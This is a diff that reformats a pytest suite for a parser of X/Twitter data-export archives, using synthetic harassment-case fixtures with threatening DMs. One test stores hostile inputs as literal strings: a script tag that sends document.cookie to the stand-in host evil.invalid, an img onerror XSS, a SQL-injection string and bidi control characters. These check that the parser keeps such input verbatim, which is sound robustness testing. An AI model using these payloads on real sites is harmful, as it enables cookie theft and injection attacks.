@@ -58,9 +58,17 @@ def archive() -> dict[str, list]:
 # --------------------------------------------------------------------------- detection
 
 
-MESSAGE_FILES = ["tweets.js", "tweets-part1.js", "deleted-tweets.js", "note-tweet.js",
-                 "direct-messages.js", "direct-messages-group.js", "account.js", "block.js",
-                 "mute.js"]
+MESSAGE_FILES = [
+    "tweets.js",
+    "tweets-part1.js",
+    "deleted-tweets.js",
+    "note-tweet.js",
+    "direct-messages.js",
+    "direct-messages-group.js",
+    "account.js",
+    "block.js",
+    "mute.js",
+]
 
 
 @pytest.mark.parametrize("name", MESSAGE_FILES)
@@ -80,8 +88,7 @@ def test_files_without_messages_are_not_claimed(name: str) -> None:
 
 def test_other_formats_fixtures_are_not_claimed() -> None:
     archive_dirs = {ROOT, OLD.parent}
-    others = [p for p in FIXTURES.rglob("*")
-              if p.is_file() and not archive_dirs & set(p.parents)]
+    others = [p for p in FIXTURES.rglob("*") if p.is_file() and not archive_dirs & set(p.parents)]
     assert others, "expected fixtures of other formats"
     for path in others:
         assert SRC.sniff(path.read_bytes()[:65536], path) == 0, path
@@ -100,15 +107,28 @@ def test_whole_archive_folder_is_ingested_file_by_file(archive: dict[str, list])
     assert sorted(archive) == sorted(MESSAGE_FILES)
     all_items = [i for items in archive.values() for i in items]
     ids = sorted(m.id for m in all_items if isinstance(m, Message))
-    assert ids == sorted([
-        "1892600000000000001", "1892600000000000002", "1892600000000000003",
-        "1892600000000000004", "1892600000000000004", "1892600000000000005",
-        "1892600000000000006", "1892600000000000007", "1892600000000000015",
-        "1892600000000000020", "note:1892600000000000199",
-        "1892700000000000001", "1892700000000000002", "1892700000000000003",
-        "1892700000000000004", "1892700000000000010", "1892700000000000501",
-        "1892700000000000502",
-    ])
+    assert ids == sorted(
+        [
+            "1892600000000000001",
+            "1892600000000000002",
+            "1892600000000000003",
+            "1892600000000000004",
+            "1892600000000000004",
+            "1892600000000000005",
+            "1892600000000000006",
+            "1892600000000000007",
+            "1892600000000000015",
+            "1892600000000000020",
+            "note:1892600000000000199",
+            "1892700000000000001",
+            "1892700000000000002",
+            "1892700000000000003",
+            "1892700000000000004",
+            "1892700000000000010",
+            "1892700000000000501",
+            "1892700000000000502",
+        ]
+    )
     assert [a.id for a in all_items if isinstance(a, Account)] == [OWNER_ID]
     assert [s.id for s in all_items if isinstance(s, StatusChange)] == ["1892600000000000020"]
     assert archive["block.js"] == [] and archive["mute.js"] == []
@@ -117,7 +137,11 @@ def test_whole_archive_folder_is_ingested_file_by_file(archive: dict[str, list])
 def test_tweet_author_is_the_owner_from_account_js() -> None:
     msg = msgs(DATA / "tweets.js")["1892600000000000001"]
     assert (msg.platform, msg.author_id, msg.author_handle, msg.author_display_name) == (
-        "x", OWNER_ID, "target_camille", "Camille (test)")
+        "x",
+        OWNER_ID,
+        "target_camille",
+        "Camille (test)",
+    )
     assert msg.author_created_at == utc(2015, 3, 1, 10)
     assert msg.author_followers is None  # archives carry no follower counts
     assert msg.url == "https://x.com/target_camille/status/1892600000000000001"
@@ -138,10 +162,13 @@ def test_media_from_extended_entities_with_string_bitrates() -> None:
     msg = msgs(DATA / "tweets.js")["1892600000000000006"]
     assert msg.media == (
         Media("photo", "https://pbs.twimg.com/media/SynthShot.jpg", "1892600000000000090"),
-        Media("video",
-              "https://video.twimg.com/ext_tw_video/1892600000000000091/pu/vid/1280x720/hi.mp4",
-              "1892600000000000091", None,
-              "https://pbs.twimg.com/ext_tw_video_thumb/1892600000000000091/pu/img/t.jpg"),
+        Media(
+            "video",
+            "https://video.twimg.com/ext_tw_video/1892600000000000091/pu/vid/1280x720/hi.mp4",
+            "1892600000000000091",
+            None,
+            "https://pbs.twimg.com/ext_tw_video_thumb/1892600000000000091/pu/img/t.jpg",
+        ),
     )
     assert msg.urls == ()  # the media link is not a real URL
 
@@ -163,11 +190,16 @@ def test_retweet_is_kept_truncated_and_flagged() -> None:
 def test_edits_share_the_initial_id_with_one_version_each(archive: dict[str, list]) -> None:
     first = msgs(DATA / "tweets.js")["1892600000000000004"]
     second = msgs(DATA / "tweets-part1.js")["1892600000000000004"]
-    assert first.versions == (Version("1892600000000000004", "First wording of my statement",
-                                      utc(2026, 2, 20, 10, 3)),)
-    assert second.versions == (Version("1892600000000000014",
-                                       "Second wording of my statement (edited)",
-                                       utc(2026, 2, 20, 10, 5)),)
+    assert first.versions == (
+        Version("1892600000000000004", "First wording of my statement", utc(2026, 2, 20, 10, 3)),
+    )
+    assert second.versions == (
+        Version(
+            "1892600000000000014",
+            "Second wording of my statement (edited)",
+            utc(2026, 2, 20, 10, 5),
+        ),
+    )
     assert second.url == "https://x.com/target_camille/status/1892600000000000014"
 
 
@@ -179,15 +211,28 @@ def test_tweets_part_file_with_a_trailing_semicolon() -> None:
 def test_deleted_tweet_gives_the_message_and_a_deletion() -> None:
     msg, change = items_of(DATA / "deleted-tweets.js")
     assert isinstance(msg, Message) and msg.text == "@raid_leader_01 I know who you are"
-    assert change == StatusChange("x", "message", "1892600000000000020", "deleted",
-                                  utc(2026, 2, 23, 9, 5), "listed in deleted-tweets.js")
+    assert change == StatusChange(
+        "x",
+        "message",
+        "1892600000000000020",
+        "deleted",
+        utc(2026, 2, 23, 9, 5),
+        "listed in deleted-tweets.js",
+    )
 
 
 def test_account_js_yields_the_owner_account() -> None:
     [account] = items_of(DATA / "account.js")
-    assert account == Account("x", OWNER_ID, "target_camille", "Camille (test)",
-                              utc(2015, 3, 1, 10), url="https://x.com/target_camille",
-                              observed_at=GENERATED, handles=("target_camille",))
+    assert account == Account(
+        "x",
+        OWNER_ID,
+        "target_camille",
+        "Camille (test)",
+        utc(2015, 3, 1, 10),
+        url="https://x.com/target_camille",
+        observed_at=GENERATED,
+        handles=("target_camille",),
+    )
 
 
 # --------------------------------------------------------------------------- long notes
@@ -198,8 +243,10 @@ def test_long_note_text_goes_to_the_matching_tweet() -> None:
     note = orjson.loads(DATA.joinpath("note-tweet.js").read_bytes().split(b"= ", 1)[1])
     assert msg.text == note[0]["noteTweet"]["core"]["text"]
     assert msg.text.endswith("Details: https://example.invalid/report #StopTheRaid")
-    assert msg.urls == ("https://twitter.com/i/web/status/1892600000000000005",
-                        "https://example.invalid/report")
+    assert msg.urls == (
+        "https://twitter.com/i/web/status/1892600000000000005",
+        "https://example.invalid/report",
+    )
     assert msg.hashtags == ("StopTheRaid",)
     assert msg.extra == {"note_tweet_id": "1892600000000000105"}
 
@@ -224,10 +271,16 @@ def test_parse_is_pure_the_note_travels_in_the_unit_context() -> None:
 
 
 def test_note_matching_needs_close_time_and_a_shared_prefix() -> None:
-    note = {"noteTweetId": "9", "createdAt": "2026-02-20T10:00:02.000Z",
-            "core": {"text": "Hello &amp; welcome to a very long post " + "z" * 300}}
-    tweet = {"id_str": "1", "created_at": "Fri Feb 20 10:00:00 +0000 2026",
-             "full_text": "Hello &amp; welcome to a very long post zzz… https://t.co/x"}
+    note = {
+        "noteTweetId": "9",
+        "createdAt": "2026-02-20T10:00:02.000Z",
+        "core": {"text": "Hello &amp; welcome to a very long post " + "z" * 300},
+    }
+    tweet = {
+        "id_str": "1",
+        "created_at": "Fri Feb 20 10:00:00 +0000 2026",
+        "full_text": "Hello &amp; welcome to a very long post zzz… https://t.co/x",
+    }
     assert match_notes([note], [tweet]) == {"1": note}
     late = dict(tweet, created_at="Fri Feb 20 09:59:59 +0000 2026")  # 3 s apart
     assert match_notes([note], [late]) == {}
@@ -244,7 +297,11 @@ def test_direct_messages() -> None:
     dms = msgs(DATA / "direct-messages.js")
     first = dms["1892700000000000001"]
     assert (first.platform, first.author_id, first.recipient_id, first.audience) == (
-        "x", "800000000000000001", OWNER_ID, "direct")
+        "x",
+        "800000000000000001",
+        OWNER_ID,
+        "direct",
+    )
     assert first.author_handle is None  # archives give sender ids only
     assert first.thread_id == f"800000000000000001-{OWNER_ID}"
     assert first.text == "we know where you live & work https://t.co/DmLiNk"
@@ -263,8 +320,11 @@ def test_dm_edit_history_becomes_versions() -> None:
     assert msg.text == "you will regret this, final warning"
     assert msg.versions == (
         Version("2026-02-20T11:03:00Z", "you will regret this", utc(2026, 2, 20, 11, 3)),
-        Version("2026-02-20T11:04:30Z", "you will regret this, final warning",
-                utc(2026, 2, 20, 11, 4, 30)),
+        Version(
+            "2026-02-20T11:04:30Z",
+            "you will regret this, final warning",
+            utc(2026, 2, 20, 11, 4, 30),
+        ),
     )
     assert msg.extra == {"reactions": 1}
 
@@ -281,8 +341,10 @@ def test_hostile_payloads_are_kept_verbatim() -> None:
     dm = msgs(DATA / "direct-messages.js")["1892700000000000010"]
     assert dm.text == "<script>fetch('//evil.invalid?c='+document.cookie)</script>\u202e\u0007"
     tweet = msgs(DATA / "tweets.js")["1892600000000000007"]
-    assert tweet.text == "<img src=x onerror=alert(1)> Robert'); DROP TABLE students;-- " \
-                         "\u202eevil\u202c "
+    assert (
+        tweet.text == "<img src=x onerror=alert(1)> Robert'); DROP TABLE students;-- "
+        "\u202eevil\u202c "
+    )
 
 
 # --------------------------------------------------------------------------- owner lookup
@@ -295,7 +357,10 @@ def test_owner_falls_back_to_manifest_user_info(tmp_path: Path) -> None:
         shutil.copy(DATA / name, data / name)
     msg = msgs(data / "tweets.js")["1892600000000000001"]
     assert (msg.author_id, msg.author_handle, msg.author_display_name) == (
-        OWNER_ID, "target_camille", "Camille (test)")
+        OWNER_ID,
+        "target_camille",
+        "Camille (test)",
+    )
     assert msg.author_created_at is None
 
 
@@ -322,12 +387,23 @@ def test_old_archive_without_owner_keeps_author_empty() -> None:
 
 
 def test_malformed_elements_are_rejected_and_the_rest_parses(tmp_path: Path) -> None:
-    good = '{"tweet": {"id_str": "11", "created_at": "Fri Feb 20 10:00:00 +0000 2026", ' \
-           '"full_text": "ok"}}'
+    good = (
+        '{"tweet": {"id_str": "11", "created_at": "Fri Feb 20 10:00:00 +0000 2026", '
+        '"full_text": "ok"}}'
+    )
     no_id = '{"tweet": {"created_at": "Fri Feb 20 10:00:00 +0000 2026", "full_text": "x"}}'
     path = tmp_path / "tweets.js"
-    path.write_bytes(("window.YTD.tweets.part0 = [\n" + good + ",\n" + no_id + ",\n" + good
-                      + ',\n{"tweet": {"id_str": "12", "full_text": "cut').encode())
+    path.write_bytes(
+        (
+            "window.YTD.tweets.part0 = [\n"
+            + good
+            + ",\n"
+            + no_id
+            + ",\n"
+            + good
+            + ',\n{"tweet": {"id_str": "12", "full_text": "cut'
+        ).encode()
+    )
     results = [(u.line, r) for u, r in read_file(path, captured_at=CAPTURED)]
     assert [line for line, _ in results] == [2, 3, 4, 5]
     assert results[0][1][0].id == "11" and results[2][1][0].id == "11"
@@ -346,18 +422,27 @@ def test_bad_utf8_element_is_rejected(tmp_path: Path) -> None:
     assert [m.id for m in results[1]] == ["1892700000000000010"]
 
 
-@pytest.mark.parametrize("raw, reason", [
-    (b'{"like": {"tweetId": "1"}}', "unknown archive record"),
-    (b'{"dmConversation": {"messages": []}}', "'dmConversation.conversationId'"),
-    ((b'{"dmConversation": {"conversationId": "1-2", "messages": [{"messageCreate": '
-     b'{"text": "x", "createdAt": "2026-02-20T11:00:00.000Z"}}]}}'),
-     "'dmConversation.messages[0].messageCreate.id'"),
-    (b'{"noteTweet": {"core": {"text": "x"}}}', "'noteTweet.noteTweetId'"),
-    (b'{"account": {"username": "x"}}', "'account.accountId'"),
-    (b'{"tweet": {"id_str": "1", "full_text": "x", "created_at": "someday"}}',
-     "'tweet.created_at'"),
-    (b'"just a string"', "expected an archive record object"),
-])
+@pytest.mark.parametrize(
+    "raw, reason",
+    [
+        (b'{"like": {"tweetId": "1"}}', "unknown archive record"),
+        (b'{"dmConversation": {"messages": []}}', "'dmConversation.conversationId'"),
+        (
+            (
+                b'{"dmConversation": {"conversationId": "1-2", "messages": [{"messageCreate": '
+                b'{"text": "x", "createdAt": "2026-02-20T11:00:00.000Z"}}]}}'
+            ),
+            "'dmConversation.messages[0].messageCreate.id'",
+        ),
+        (b'{"noteTweet": {"core": {"text": "x"}}}', "'noteTweet.noteTweetId'"),
+        (b'{"account": {"username": "x"}}', "'account.accountId'"),
+        (
+            b'{"tweet": {"id_str": "1", "full_text": "x", "created_at": "someday"}}',
+            "'tweet.created_at'",
+        ),
+        (b'"just a string"', "expected an archive record object"),
+    ],
+)
 def test_malformed_records_name_the_field(raw: bytes, reason: str) -> None:
     with pytest.raises(ParseError) as info:
         SRC.parse(raw, ParseContext(CAPTURED, "a.js", 7))
